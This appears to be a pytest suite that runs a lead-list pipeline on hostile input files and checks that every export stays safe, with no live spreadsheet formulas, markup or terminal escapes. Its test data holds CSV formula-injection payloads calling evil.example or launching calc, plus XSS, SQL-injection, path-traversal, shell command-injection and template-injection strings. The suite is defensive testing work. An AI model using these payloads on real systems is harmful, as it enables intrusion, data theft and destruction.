"""Trials D and E: lead lists as nobody should send them, through the whole job and into every export.

Nothing may be lost, nothing may crash, and nothing that leaves the house may be a formula in anybody's spreadsheet.
"""

import csv
import json
import re
from io import StringIO
from pathlib import Path
from zipfile import ZipFile

import pyarrow.parquet as pq
import pytest
from test_trials_market import market, published, run, warehouse
from typer.testing import CliRunner

from pipelines.cli import app
from pipelines.job import Job

pytestmark = pytest.mark.slow

FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1 tab",
    "  =1+1 blanks",
    "\u00a0=1+1 hard blank",
    "\u200b=1+1 zero width",
    "＝1+1 full width",
    "＋1 full width",
    "－1 full width",
    "＠SUM full width",
    '"=1+1 quote',
    "Acme;=1+1 semicolon",
    "Acme\t=1+1 tab inside",
    "Acme\n=1+1 line inside",
    "\r=1+1 carriage return",
    "%0A=1+1",
    '=IMPORTXML(CONCAT("https://evil.example",A1),"//a")',
)
NAUGHTY = (
    "undefined nil None Ltd",
    "NULL Ltd",
    "1E+02",
    "0x1F",
    "٠١٢٣",
    "1/0",
    "NaN Ltd",
    "Infinity",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "\"><svg/onload=alert(1)>",
    "javascript:alert(1)",
    "'; drop table leads; --",
    "1' or '1'='1",
    "\" or \"\"=\"",
    "Robert'); drop schema mart cascade;--",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    "/dev/null; touch /tmp/pwned",
    "$(touch /tmp/pwned)",
    "`touch /tmp/pwned`",
    "$HOME",
    "%s%s%s%n",
    "%d Ltd {0}",
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[bold red]rich markup[/]",
    "[/nothing to close]",
    "[link=https://evil.example]click[/link]",
    "\x1b[31mred\x1b[0m terminal",
    "a\x07bell",
    "a\x08backspace",
    "\u202eright to left override",
    "\u2066isolate\u2069 me",
    "\ufeffbyte order mark",
    "zero\u200bwidth",
    "zero\u200djoiner",
    "soft\u00adhyphen",
    "l\u2028ine separator",
    "p\u2029aragraph separator",
    "next\u0085line",
    "\ufffe not a character",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 family",
    "\U0001f1e9\U0001f1ea flags",
    "\U0001f44d\U0001f3fd thumb",
    "Z̮̞̠͙͔ͅḀ̗̞͈̻̗Ḷ͙͎̯̹̞͓G̻O̭̗̮",
    "e\u0301 combining",
    "Ω≈ç√∫˜µ≤≥÷",
    "田中さんにあげて下さい",
    "사회과학원 어학연구소",
    "בְּרֵאשִׁית",
    "مُنَاقَشَةُ سُبُلِ",
    "ﷺ",
    "𝕋𝕙𝕖 𝕢𝕦𝕚𝕔𝕜",
    "ʇǝɯɐ ʇᴉs",
    "İstanbul ıI",
    "ß ẞ ſ",
    "Ã¼ twice encoded",
    "�replacement",
    "=\u200b",
    "CON",
    "a" * 300,
)  # fmt: skip
LONG = "Very Long Company " + "x" * 10_000
ONE_ROW = b"company,website\nName Ltd,%s\n"
LISTS: dict[str, tuple[bytes, tuple[int, int, int, int]]] = {
    # name: what is in it, and its books: rows in, leads, duplicates, rejected
    "nul.csv": (b"company,website\nNu\0l Ltd,nul.example\n\0\0,\0\n", (2, 1, 0, 1)),
    "huge.csv": (
        b"company,website,notes\nHuge Ltd,huge.example," + b"n" * 5_000_000 + b"\nNext Ltd,next.example,\n",
        (2, 2, 0, 0),
    ),
    "long.csv": (f"company,website\n{LONG},long.example\n".encode(), (1, 1, 0, 0)),
    "headings.csv": (b"company,company,,website\nFirst Ltd,Second Ltd,x,headings.example\n", (1, 1, 0, 0)),
    "ragged.csv": (b"company,website\nOne,r1.example,more,cells\nTwo\n\nThree,r3.example\n", (3, 3, 0, 0)),
    "open.csv": (b'company,website\n"Open Ltd,open1.example\nNext Ltd,open2.example\n', (2, 2, 0, 0)),
    "utf16.csv": ("company,website\nÜmlaut AG,utf16.example\n".encode("utf-16"), (1, 1, 0, 0)),
    "mixed.csv": (b"company,website\r\nM1 Ltd,m1.example\nM2 Ltd,m2.example\rM3 Ltd,m3.example\n", (3, 3, 0, 0)),
    "empty.csv": (b"", (1, 0, 0, 1)),
    "blank.csv": (b"\n \r\n\n", (1, 0, 0, 1)),
    "headings only.csv": (b"company,website\n", (0, 0, 0, 0)),
    "picture.csv": (b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 40, (1, 0, 0, 1)),
    "letter.docx": (b"PK\x03\x04 no table", (1, 0, 0, 1)),
    "no-ending": (b"company,website\nNobody Ltd,noending.example\n", (1, 1, 0, 0)),
    "README": (b"Nothing of a list here.\n", (1, 0, 0, 1)),
    "broken.json": (b'[{"company": "Half', (1, 0, 0, 1)),
    "bomb.json": (b"[" * 200_000, (1, 0, 0, 1)),
    "[ab].csv": (ONE_ROW % b"brackets.example", (1, 1, 0, 0)),
    "*.csv": (ONE_ROW % b"star.example", (1, 1, 0, 0)),
    "spaces and ünïcödé – 1.csv": (ONE_ROW % b"umlaut.example", (1, 1, 0, 0)),
    ".hidden.csv": (ONE_ROW % b"hidden.example", (1, 1, 0, 0)),
    "..leading.csv": (ONE_ROW % b"leading.example", (1, 1, 0, 0)),
    "=cmd|calc.csv": (ONE_ROW % b"formula.example", (1, 1, 0, 0)),
    "'; drop table x;--.csv": (ONE_ROW % b"quoted.example", (1, 1, 0, 0)),
    "<script>alert(3)<script>.csv": (ONE_ROW % b"markup.example", (1, 1, 0, 0)),
}
BEGINS_FORMULA = re.compile(r"^[\s\x00-\x1f\u200b\ufeff\"]*[=+\-@＝＋－＠]")


def table(names: tuple[str, ...], prefix: str) -> bytes:
    """A list that says each string as company, family name and job title of a website of its own."""
    out = StringIO(newline="")
    writer = csv.writer(out, quoting=csv.QUOTE_ALL)
    writer.writerow(["company", "website", "last name", "job title"])
    writer.writerows([name, f"{prefix}{number}.example", name, name] for number, name in enumerate(names))
    return out.getvalue().encode("utf-8", "surrogatepass")


@pytest.fixture(scope="module")
def job(tmp_path_factory: pytest.TempPathFactory) -> Job:
    files = {name: content for name, (content, _) in LISTS.items()}
    files |= {"formulas.csv": table(FORMULAS, "f"), "naughty.csv": table(NAUGHTY, "n")}
    return market(tmp_path_factory.mktemp("hostile_lists"), {}, files)


@pytest.fixture(scope="module")
def release(job: Job) -> Path:
    return run(job)


@pytest.fixture(scope="module")
def exports(job: Job, release: Path) -> dict[str, list[Path]]:
    folder = job.home.folder / "exports"
    for layout in ("csv", "hubspot", "salesforce", "xlsx", "parquet"):
        arguments = ["export", "--layout", layout, "--to", str(folder / layout), "--home", str(job.home.folder)]
        CliRunner().invoke(app, arguments, catch_exceptions=False)
    return {layout.name: sorted(layout.iterdir()) for layout in folder.iterdir()}


def test_every_list_keeps_its_books(release: Path) -> None:
    rows = published(release, "select * from mart.lead_list")
    books = {row["name"]: (row["rows_in"], row["leads"], row["duplicates"], row["rejected"]) for row in rows}
    wanted = {name: numbers for name, (_, numbers) in LISTS.items()}
    wanted |= {
        "formulas.csv": (len(FORMULAS), len(FORMULAS), 0, 0),
        "naughty.csv": (len(NAUGHTY), len(NAUGHTY), 0, 0),
    }
    assert books == wanted
    assert all(row["lost"] == 0 for row in rows)


def test_every_refusal_says_what_to_do(job: Job, release: Path) -> None:
    refused = warehouse(job, "select name, reason, sentence from raw.rejected_row join raw.lead_list using (list_id)")
    assert {row["name"]: row["reason"] for row in refused}["letter.docx"] == "unsupported_format"
    assert {row["name"]: row["reason"] for row in refused}["empty.csv"] == "empty_file"
    assert all(len(row["sentence"]) > 20 and "Traceback" not in row["sentence"] for row in refused)


def test_rows_are_kept_as_they_came(job: Job, release: Path) -> None:
    rows = warehouse(job, "select name, fields from raw.lead_row join raw.lead_list using (list_id) order by row_number")
    for name, strings in (("formulas.csv", FORMULAS), ("naughty.csv", NAUGHTY)):
        kept = [json.loads(row["fields"])["company"] for row in rows if row["name"] == name]
        assert kept == list(strings)
    (huge,) = [row for row in rows if row["name"] == "huge.csv" and "Huge" in row["fields"]]
    assert json.loads(huge["fields"])["notes"] == "n" * 5_000_000


def test_a_cell_too_long_for_a_name_is_kept_beside_it(job: Job, release: Path) -> None:
    (lead,) = warehouse(job, "select company, domain, extra from core.lead where domain = 'long.example'")
    assert lead["company"] is None and json.loads(lead["extra"]) == {"company": LONG}


def test_no_row_runs_into_its_neighbour(release: Path) -> None:
    found = {row["organization_domain"] for row in published(release, "select organization_domain from mart.lead")}
    several = {"r1.example", "r3.example", "m1.example", "m2.example", "m3.example", "open2.example"}
    assert several | {f"n{number}.example" for number in range(len(NAUGHTY))} <= found


def test_names_survive_decoding(release: Path) -> None:
    named = {row["organization_domain"]: row["company"] for row in published(release, "select * from mart.lead")}
    assert named["utf16.example"] == "Ümlaut AG"
    decomposed = NAUGHTY.index("e\u0301 combining")
    assert named[f"n{decomposed}.example"] == "\u00e9 combining"
    assert not any(re.search(r"[\x00-\x1f\x7f\u202a-\u202e\u2066-\u2069]", name or "") for name in named.values())


def test_nothing_was_read_so_nothing_is_scored(release: Path) -> None:
    rows = published(release, "select distinct ring, fit, readiness from mart.fit")
    assert rows == [{"ring": "unknown", "fit": None, "readiness": None}]


def test_files_lie_in_the_inbox_under_harmless_names(job: Job, release: Path) -> None:
    stored = [path for path in job.home.inbox.iterdir() if path.name != ".received"]
    assert len(stored) == len(LISTS) + 2
    assert all(re.fullmatch(r"[A-Za-z0-9][A-Za-z0-9._-]*", path.name) for path in stored)


def cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return [cell for row in csv.reader(file) for cell in row]


@pytest.mark.parametrize("layout", ["csv", "hubspot", "salesforce"])
def test_no_cell_is_a_formula_in_a_spreadsheet(layout: str, exports: dict[str, list[Path]]) -> None:
    said = [cell for path in exports[layout] for cell in cells(path)]
    assert [cell for cell in said if BEGINS_FORMULA.match(cell)] == []
    assert [cell for cell in said if cell.startswith(("\t", "\r", "\n"))] == []
    assert any("HYPERLINK" in cell for cell in said), "the trial itself is there"


def test_the_release_holds_the_same_harmless_csv(release: Path, exports: dict[str, list[Path]]) -> None:
    assert (release / "leads.csv").read_bytes() == exports["csv"][0].read_bytes()


@pytest.mark.parametrize("separator", [";", "\t"])
def test_no_cell_is_a_formula_for_whoever_separates_otherwise(separator: str, release: Path) -> None:
    """A spreadsheet that separates by something else sees cells begin where we begin none, and quotes mean nothing there."""
    text = (release / "leads.csv").read_text("utf-8")
    seen = [part for line in text.splitlines() for part in line.split(separator)[1:]]
    assert [part for part in seen if BEGINS_FORMULA.match(part)] == []


def test_no_formula_and_no_link_in_a_workbook(exports: dict[str, list[Path]]) -> None:
    (path,) = exports["xlsx"]
    with ZipFile(path) as book:
        names, sheet = book.namelist(), book.read("xl/worksheets/sheet1.xml")
    assert b"=HYPERLINK" in sheet, "kept as text"
    assert b"<f>" not in sheet and b"<f " not in sheet and b"hyperlink " not in sheet
    assert not [name for name in names if "externalLink" in name or "vba" in name.lower()]


def test_parquet_holds_the_raw_value(release: Path, exports: dict[str, list[Path]]) -> None:
    for path in (release / "tables" / "lead.parquet", exports["parquet"][0]):
        companies = set(pq.read_table(path, columns=["company"]).column(0).to_pylist())
        assert {FORMULAS[0], "@SUM(1+9)*cmd|' /C calc'!A0", "＝1+1 full width", "{{7*7}}", "../../../../etc/passwd"} <= companies


@pytest.mark.parametrize("command", [["status"], ["explain", "n29.example"], ["explain", "[/nothing to close]"], ["doctor"]])
def test_a_terminal_shows_it_all(command: list[str], job: Job, release: Path) -> None:
    result = CliRunner().invoke(app, [*command, "--home", str(job.home.folder)], env={"COLUMNS": "200", "TERM": "dumb"})
    assert result.exception is None or isinstance(result.exception, SystemExit), repr(result.exception)
    assert "Traceback" not in result.output and "\x1b[31m" not in result.output


def test_no_markup_is_alive_in_the_report(release: Path) -> None:
    for name in ("quality.html", "dictionary.md"):
        assert "<script" not in (release / name).read_text("utf-8").lower()
